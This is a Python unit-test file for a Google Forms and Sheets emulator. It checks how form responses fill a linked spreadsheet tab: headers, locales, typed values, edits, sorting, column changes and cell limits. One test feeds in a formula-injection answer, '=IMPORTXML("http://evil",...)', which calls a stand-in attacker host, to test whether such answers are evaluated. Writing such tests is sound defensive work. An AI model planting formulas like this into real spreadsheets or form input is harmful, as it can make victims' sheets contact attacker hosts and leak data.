"""The responses tab: columns, rows, types, and what people may do to it."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from sheetflow.emulator.sheets.formulas import Formula
from sheetflow.emulator.wire import GoogleError
from tests.unit.emulator.forms.office import ANNA, BORIS, OWNER, Office, asking, choice, text

TAB = "'Form responses 1'"


@pytest.fixture
def form(office: Office) -> str:
    form = office.create()
    office.add(form, text("What for"), asking("Pay by", dateQuestion={"includeYear": True}))
    office.emulator.forms.configure(form, allow_edits=True)
    return form


def _rename(office: Office, form: str, index: int, title: str) -> None:
    change = {"item": {"title": title}, "location": {"index": index}, "updateMask": "title"}
    office.batch(form, {"updateItem": change})


def _batch(office: Office, sheet: str, request: Any) -> None:
    doc = office.emulator.sheets.open(sheet, OWNER, write=True)
    office.emulator.sheets.batch_update(doc, OWNER, {"requests": [request]})


def _tab(office: Office, sheet: str) -> int:
    return office.emulator.sheets.open(sheet, OWNER).book.sheets[0].sheet_id


def _contents(office: Office, sheet: str, where: str = "A1:F9") -> list[list[Any]]:
    """Cells without the time."""
    lines = office.cells(sheet, f"{TAB}!{where}")
    return [line[1:] for line in lines if line]


def test_link__makes_the_first_tab_with_a_frozen_header(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    tab = office.emulator.forms.link(form, sheet)
    assert office.form(form)["linkedSheetId"] == sheet
    book = office.emulator.sheets.open(sheet, OWNER).book
    assert [one.title for one in book.sheets] == ["Form responses 1", "Sheet1"]
    assert book.sheets[0].sheet_id == tab
    assert book.sheets[0].properties["gridProperties"]["frozenRowCount"] == 1
    header = ["Timestamp", "Email address", "What for", "Pay by"]
    assert office.cells(sheet, f"{TAB}!A1:F1") == [header]
    second = office.create("Second")
    office.add(second, text("Q"))
    office.emulator.forms.link(second, sheet)
    assert office.emulator.sheets.open(sheet, OWNER).book.sheets[0].title == "Form responses 2"


def test_link__speaks_the_spreadsheets_language(office: Office, form: str) -> None:
    sheet = office.spreadsheet("ru_RU")
    office.emulator.forms.link(form, sheet)
    header = office.cells(sheet, "'Ответы на форму (1)'!A1:D1")
    assert header == [["Отметка времени", "Адрес электронной почты", "What for", "Pay by"]]
    named = office.create("Named")
    office.emulator.forms.link(named, sheet, title="Ответы")
    assert office.cells(sheet, "Ответы!A1:B1") == [["Отметка времени", "Адрес электронной почты"]]


def test_link__needs_an_editor_of_both(office: Office, form: str) -> None:
    sheet: str = office.emulator.sheets.create(ANNA)["spreadsheetId"]
    with pytest.raises(GoogleError, match="permission"):
        office.emulator.forms.link(form, sheet)
    assert "linkedSheetId" not in office.form(form)


def test_link__brings_the_responses_that_are_there(office: Office, form: str) -> None:
    office.respond(ANNA, {"What for": "one"})
    second = office.respond(BORIS, {"What for": "two"})["responseId"]
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    office.respond(BORIS, {"What for": "two!"}, edit=second)
    assert _contents(office, sheet)[1:] == [[ANNA, "one"], [BORIS, "two!"]]
    office.emulator.forms.unlink(form)
    office.respond(ANNA, {"What for": "three"})
    assert len(_contents(office, sheet)) == 3
    assert "linkedSheetId" not in office.form(form)


def test_rows__are_typed_by_the_question(office: Office) -> None:
    form = office.create()
    office.add(
        form,
        text("Text"),
        asking("Date", dateQuestion={"includeYear": True}),
        asking("Moment", dateQuestion={"includeYear": True, "includeTime": True}),
        asking("Birthday", dateQuestion={}),
        asking("Time", timeQuestion={}),
        asking("Scale", scaleQuestion={"low": 1, "high": 5}),
        choice("Tags", "CHECKBOX", "a", "b"),
    )
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    office.respond(
        ANNA,
        {
            "Text": "007",
            "Date": "2026-12-31",
            "Moment": "2026-12-31 06:00",
            "Birthday": "05-19",
            "Time": "12:00",
            "Scale": 3,
            "Tags": ["b", "a"],
        },
    )
    ((stamp, *values),) = office.cells(sheet, f"{TAB}!A2:I2", "UNFORMATTED_VALUE")
    assert values == [ANNA, "007", 46387, 46387.25, "05-19", 0.5, 3, "b, a"]
    assert isinstance(stamp, float)
    shown = office.cells(sheet, f"{TAB}!D2:G2")[0]
    assert shown == ["12/31/2026", "12/31/2026 6:00:00", "05-19", "12:00:00 PM"]


def test_rows__the_time_is_the_spreadsheets(office: Office, form: str) -> None:
    office.emulator.clock.set(datetime(2026, 11, 24, 22, 30, tzinfo=UTC))
    sheet = office.spreadsheet()  # Europe/Moscow
    office.emulator.forms.link(form, sheet)
    office.respond(ANNA, {"What for": "x"})
    assert office.cells(sheet, f"{TAB}!A2")[0][0].startswith("11/25/2026 1:30:0")


@pytest.mark.parametrize("evaluated", [False, True])
def test_rows__an_answer_that_begins_with_an_equals_sign(office: Office, form: str, evaluated: bool) -> None:
    office.emulator.switches.set({"form_answers_evaluate": evaluated})
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    office.respond(ANNA, {"What for": '=IMPORTXML("http://evil","//a")&1'})
    office.respond(ANNA, {"What for": "=1+1"})
    book = office.emulator.sheets.open(sheet, OWNER).book
    values = [book.entered(book.sheets[0].sheet_id, row, 2) for row in (1, 2)]
    assert [isinstance(value, Formula) for value in values] == [evaluated, evaluated]
    assert office.cells(sheet, f"{TAB}!C3") == ([["2"]] if evaluated else [["=1+1"]])


def test_rows__an_edited_response_rewrites_its_row(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    first = office.respond(ANNA, {"What for": "one", "Pay by": "2026-12-31"})["responseId"]
    office.respond(BORIS, {"What for": "two"})
    before = office.cells(sheet, f"{TAB}!A2", "UNFORMATTED_VALUE")[0][0]
    office.respond(ANNA, {"What for": "one!", "Pay by": None}, edit=first)
    assert _contents(office, sheet)[1:] == [[ANNA, "one!"], [BORIS, "two"]]
    assert office.cells(sheet, f"{TAB}!A2", "UNFORMATTED_VALUE")[0][0] > before


def test_rows__a_sorted_row_is_found_and_a_deleted_one_comes_back_below(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    tab = office.emulator.forms.link(form, sheet)
    ids = [office.respond(ANNA, {"What for": name})["responseId"] for name in ("a", "b", "c")]
    area = {"sheetId": tab, "startRowIndex": 1, "endRowIndex": 4, "startColumnIndex": 0, "endColumnIndex": 4}
    _batch(
        office,
        sheet,
        {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 2, "sortOrder": "DESCENDING"}]}},
    )
    office.respond(ANNA, {"What for": "a!"}, edit=ids[0])
    assert [line[1] for line in _contents(office, sheet)[1:]] == ["c", "b", "a!"]
    gone = {"sheetId": tab, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
    _batch(office, sheet, {"deleteDimension": {"range": gone}})
    office.respond(ANNA, {"What for": "c!"}, edit=ids[2])
    assert [line[1] for line in _contents(office, sheet)[1:]] == ["b", "a!", "c!"]


def test_rows__never_write_over_what_people_put_below(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    office.respond(ANNA, {"What for": "a"})
    doc = office.emulator.sheets.open(sheet, OWNER, write=True)
    office.emulator.sheets.write_values(doc, OWNER, f"{TAB}!H3", [['=H2&"!"']])
    office.respond(ANNA, {"What for": "b"})
    lines = office.cells(sheet, f"{TAB}!A2:H4", "FORMULA")
    assert [line[2] if len(line) > 2 else None for line in lines] == ["a", "b", ""]
    assert lines[2][7] == '=H2&"!"'


def test_rows__a_protected_tab_still_takes_them(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    tab = office.emulator.forms.link(form, sheet)
    office.emulator.sheets.share(sheet, ANNA, "writer")
    guard = {"range": {"sheetId": tab}, "editors": {"users": [OWNER]}}
    _batch(office, sheet, {"addProtectedRange": {"protectedRange": guard}})
    office.respond(ANNA, {"What for": "a"})
    assert _contents(office, sheet)[1:] == [[ANNA, "a"]]


def test_columns__new_questions_come_at_the_right(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    item = {"createItem": {"item": text("Urgent"), "location": {"index": 0}}}
    office.batch(form, item)
    assert office.cells(sheet, f"{TAB}!C1:F1") == [["What for", "Pay by", "Urgent"]]
    office.respond(ANNA, {"What for": "a", "Urgent": "yes"})
    assert _contents(office, sheet)[1:] == [[ANNA, "a", "", "yes"]]
    office.batch(form, {"deleteItem": {"location": {"index": 1}}})  # "What for"
    office.respond(ANNA, {"Urgent": "no"})
    assert _contents(office, sheet)[1:] == [[ANNA, "a", "", "yes"], [ANNA, "", "", "no"]]


def test_columns__a_renamed_question_renames_its_header(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    _rename(office, form, 0, "Purpose")
    assert office.cells(sheet, f"{TAB}!C1:D1") == [["Purpose", "Pay by"]]


def test_columns__people_may_move_and_rename_them(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    tab = office.emulator.forms.link(form, sheet)
    doc = office.emulator.sheets.open(sheet, OWNER, write=True)
    place = {"sheetId": tab, "dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}
    _batch(office, sheet, {"insertDimension": {"range": place}})
    office.emulator.sheets.write_values(doc, OWNER, f"{TAB}!B1", [["Note"]])
    office.respond(ANNA, {"What for": "a"})
    assert _contents(office, sheet) == [["Note", "Email address", "What for", "Pay by"], ["", ANNA, "a"]]
    office.emulator.sheets.write_values(doc, OWNER, f"{TAB}!D1", [["За что"]])
    office.respond(ANNA, {"What for": "b"})
    assert _contents(office, sheet)[2] == ["", ANNA, "b"]


def test_columns__a_deleted_one_comes_back_at_the_right(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    tab = office.emulator.forms.link(form, sheet)
    office.respond(ANNA, {"What for": "a", "Pay by": "2026-12-31"})
    gone = {"sheetId": tab, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}
    _batch(office, sheet, {"deleteDimension": {"range": gone}})
    office.respond(ANNA, {"What for": "b"})
    assert _contents(office, sheet) == [
        ["Email address", "Pay by", "What for"],
        [ANNA, "12/31/2026"],
        [ANNA, "", "b"],
    ]


def test_columns__questions_of_the_same_title_have_one_each(office: Office) -> None:
    form = office.create()
    first, second = office.add(form, text("Name"), text("Name"))
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    office.respond(ANNA, {first: "1", second: "2"})
    assert _contents(office, sheet) == [["Email address", "Name", "Name"], [ANNA, "1", "2"]]


def test_tab__once_deleted_stops_the_copying_only(office: Office, form: str) -> None:
    sheet = office.spreadsheet()
    tab = office.emulator.forms.link(form, sheet)
    _batch(office, sheet, {"deleteSheet": {"sheetId": tab}})
    office.respond(ANNA, {"What for": "a"})
    assert len(office.responses(form)["responses"]) == 1
    assert "linkedSheetId" not in office.form(form)
    office.emulator.sheets.remove(sheet)
    office.respond(ANNA, {"What for": "b"})
    office.add(form, text("more"))
    assert len(office.responses(form)["responses"]) == 2


def test_tab__long_answers_and_long_titles_are_cut_at_a_cells_limit(office: Office) -> None:
    form = office.create()
    (question,) = office.add(form, text("Q" * 60_000, paragraph=True))
    sheet = office.spreadsheet()
    office.emulator.forms.link(form, sheet)
    office.respond(ANNA, {question: "x" * 60_000})
    assert [len(line[0]) for line in office.cells(sheet, f"{TAB}!C1:C2")] == [50_000, 50_000]
    (one,) = office.responses(form)["responses"]
    assert len(one["answers"][question]["textAnswers"]["answers"][0]["value"]) == 60_000
